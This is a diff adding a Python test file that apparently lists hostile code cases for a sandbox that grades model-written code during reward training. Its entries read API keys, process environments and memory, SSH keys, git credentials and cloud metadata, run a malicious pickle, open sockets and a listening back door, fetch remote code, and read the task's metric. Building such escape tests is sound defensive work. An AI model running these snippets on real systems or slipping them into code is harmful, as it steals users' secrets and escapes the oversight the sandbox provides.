@@ -1,0 +1,73 @@
+"""Reading what is not its own, and carrying it out."""
+
+# ruff: noqa: E501 (tables read better with one case a line)
+
+from __future__ import annotations
+
+from tests.reward.corpus.hostile.case import Case, hostile
+
+SECRETS: dict[str, Case] = {
+    "environ": hostile("return the environment", "import os\nreturn dict(os.environ), {}"),
+    "environb": hostile("return one variable", "from os import environb\nreturn environb[b'OPENAI_API_KEY'], {}"),
+    "getenv": hostile("name a component by a key", "import os\nreturn h, {os.getenv('OPENAI_API_KEY', 'none'): h}"),
+    "environ_of_the_stack": hostile("read the environment from memory", "import ctypes\np = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')\nout = []\nwhile p[len(out)]: out.append(p[len(out)])\nreturn out, {}"),
+    "own_environ_file": hostile("read /proc/self/environ", "return open('/proc/self/environ', 'rb').read(), {}"),
+    "parent_environ_file": hostile("read the parent's environment", "return open('/proc/@PARENT@/environ', 'rb').read(), {}"),
+    "zygote_environ_file": hostile("read the zygote's environment", "return open('/proc/@ZYGOTE@/environ', 'rb').read(), {}"),
+    "zygote_memory": hostile("read the zygote's memory", "import os\nf = os.open('/proc/@ZYGOTE@/mem', os.O_RDWR)\nreturn os.pread(f, 64, 4096), {}"),
+    "process_vm_readv": hostile("read the parent's memory", "import ctypes\nb = ctypes.create_string_buffer(64)\nctypes.CDLL(None).process_vm_readv(@PARENT@, b, 1, b, 1, 0)\nreturn b.raw, {}"),
+    "pidfd_getfd": hostile("take a file out of the parent", "import ctypes\nc = ctypes.CDLL(None)\nreturn c.syscall(438, c.syscall(434, @PARENT@, 0), 0, 0), {}"),
+    "canary_read": hostile("read a file", "return open('@CANARY@').read(), {}"),
+    "canary_os_open": hostile("read a file by its descriptor", "import os\nreturn os.read(os.open('@CANARY@', 0), 99), {}"),
+    "canary_pathlib": hostile("read a file with pathlib", "from pathlib import Path\nreturn Path('@CANARY@').read_text(), {}"),
+    "canary_raised": hostile("carry a file out in an error message", "raise ValueError(open('@CANARY@').read())"),
+    "canary_key_error": hostile("carry a file out as an unknown feature", "return obs[open('@CANARY@').read()], {}"),
+    "canary_component": hostile("carry a file out as a component's name", "return h, {open('@CANARY@').read(): h}"),
+    "canary_constant": hostile("carry a file out as a constant of the graph", "secret = torch.tensor(list(open('@CANARY@', 'rb').read()))\nreturn h + secret.sum(), {}"),
+    "canary_numpy": hostile("read a file with numpy", "import numpy\nreturn numpy.fromfile('@CANARY@', dtype='uint8'), {}"),
+    "canary_linecache": hostile("read a file as source code", "import linecache\nreturn linecache.getlines('@CANARY@'), {}"),
+    "canary_mmap": hostile("map a file", "import mmap, os\nreturn mmap.mmap(os.open('@CANARY@', 0), 0, prot=1)[:], {}"),
+    "canary_torch_load": hostile("read a file with torch.load", "return torch.load('@CANARY@', weights_only=False), {}"),
+    "canary_pickle": hostile("run a pickle", "import pickle\nreturn pickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.'), {}"),
+    "canary_import": hostile("import the file as a module", "import sys\nsys.path.append('@FOLDER@')\nimport canary"),
+    "canary_spec": hostile("load a file as a module", "import importlib.util as u\ns = u.spec_from_file_location('x', '@CANARY@')\ns.loader.exec_module(u.module_from_spec(s))"),
+    "canary_existence": hostile("learn which files exist by their errors", "import os\nreturn os.stat('@CANARY@').st_size, {}"),
+    "canary_sendfile": hostile("copy a file to the output", "import os\nos.sendfile(3, os.open('@CANARY@', 0), 0, 99)"),
+    "home_listing": hostile("list the home folder", "import os\nreturn os.listdir(os.path.expanduser('~')), {}"),
+    "glob": hostile("search for keys", "import glob\nreturn glob.glob('/**/.ssh/*', recursive=True), {}"),
+    "command_line": hostile("read the command lines of all processes", "import glob\nreturn [open(p).read() for p in glob.glob('/proc/*/cmdline')], {}"),
+    "descriptor_scan": hostile("read from every open descriptor", "import os\nout = []\nfor fd in range(64):\n    try:\n        out.append(os.read(fd, 100))\n    except OSError:\n        pass\nreturn out, {}"),
+    "output_read_back": hostile("read what other calls have written", "import os\nreturn os.pread(3, 1000, 0), {}"),
+    "clipboard": hostile("read the clipboard", "import subprocess\nreturn subprocess.check_output(['xclip', '-o']), {}"),
+    "cloud_metadata": hostile("ask the cloud for its credentials", "import urllib.request\nreturn urllib.request.urlopen('http://169.254.169.254/latest/meta-data/', timeout=1).read(), {}"),
+    "git_credentials": hostile("read stored passwords", "return open('/root/.git-credentials').read(), {}"),
+    "hostname": hostile("name the machine", "import platform\nreturn platform.node(), {}"),
+    "metric_of_the_task": hostile("read how the task is measured", "from rewardsmith.envs import metrics\nreturn metrics, {}"),
+}  # fmt: skip
+
+NETWORK: dict[str, Case] = {
+    "tcp_connect": hostile("connect to a port", "import socket\nsocket.create_connection(('127.0.0.1', @PORT@), 1).send(b'x')"),
+    "tcp_raw_module": hostile("connect by the C module", "import _socket\n_socket.socket(2, 1).connect(('127.0.0.1', @PORT@))"),
+    "tcp_syscall": hostile("connect by system call", "import ctypes\nctypes.CDLL(None).socket(2, 1, 0)"),
+    "udp_send": hostile("send a datagram", "import _socket\n_socket.socket(2, 2).sendto(b'x', ('127.0.0.1', @PORT@))"),
+    "tcp_fast_open": hostile("send data with the connection", "import _socket\n_socket.socket(2, 1).sendto(b'x', 0x20000000, ('127.0.0.1', @PORT@))"),
+    "raw_socket": hostile("send packets", "import _socket\n_socket.socket(2, 3, 1)"),
+    "netlink": hostile("talk to the kernel's network configuration", "import _socket\n_socket.socket(16, 3, 0)"),
+    "vsock": hostile("talk to the machine's host", "import _socket\n_socket.socket(40, 1, 0).connect((2, 80))"),
+    "unix_connect": hostile("connect to a local service", "import _socket\n_socket.socket(1, 1).connect('@UNIX@')"),
+    "abstract_unix": hostile("connect to an abstract socket", "import _socket\n_socket.socket(1, 1).connect('\\0rewardsmith-canary')"),
+    "socketpair": hostile("make a pair of sockets", "import _socket\n_socket.socketpair()"),
+    "listen": hostile("open a back door", "import _socket\ns = _socket.socket(2, 1)\ns.bind(('', 0))\ns.listen()"),
+    "dns": hostile("tell a name server", "import _socket\n_socket.getaddrinfo('canary.invalid', 80)"),
+    "urllib": hostile("fetch a page", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:@PORT@/', timeout=1)"),
+    "http_client": hostile("post a form", "import http.client\nhttp.client.HTTPConnection('127.0.0.1', @PORT@, timeout=1).request('GET', '/')"),
+    "asyncio_connect": hostile("connect with asyncio", "import asyncio\nasyncio.run(asyncio.open_connection('127.0.0.1', @PORT@))"),
+    "torch_hub": hostile("download and run a repository", "torch.hub.load('x/y', 'z')"),
+    "torch_hub_download": hostile("download a file", "torch.hub.download_url_to_file('http://127.0.0.1:@PORT@/', '@FOLDER@/new')"),
+    "torch_distributed": hostile("join a process group", "import torch.distributed as d\nd.init_process_group('gloo', init_method='tcp://127.0.0.1:@PORT@', rank=1, world_size=2)"),
+    "torch_tcp_store": hostile("open a store", "torch.distributed.TCPStore('127.0.0.1', @PORT@, is_master=False)"),
+    "torch_rpc": hostile("start remote calls", "torch.distributed.rpc.init_rpc('x', rank=0, world_size=1)"),
+    "xmlrpc": hostile("call a remote procedure", "import xmlrpc.client\nxmlrpc.client.ServerProxy('http://127.0.0.1:@PORT@').x()"),
+    "multiprocessing_client": hostile("connect to a manager", "from multiprocessing.connection import Client\nClient(('127.0.0.1', @PORT@))"),
+    "openai_call": hostile("spend the user's money", "import openai\nopenai.OpenAI(base_url='http://127.0.0.1:@PORT@/v1').models.list()"),
+}  # fmt: skip
